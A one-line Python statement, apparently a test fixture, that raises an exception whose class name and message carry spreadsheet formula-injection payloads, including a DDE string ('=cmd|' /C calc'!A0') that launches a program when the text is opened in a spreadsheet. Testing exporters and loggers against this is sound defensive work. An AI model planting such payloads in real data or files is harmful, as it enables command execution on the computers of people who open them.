raise type("=1+1", (Exception,), {})("=cmd|' /C calc'!A0\t+1\r\n@SUM(1)")
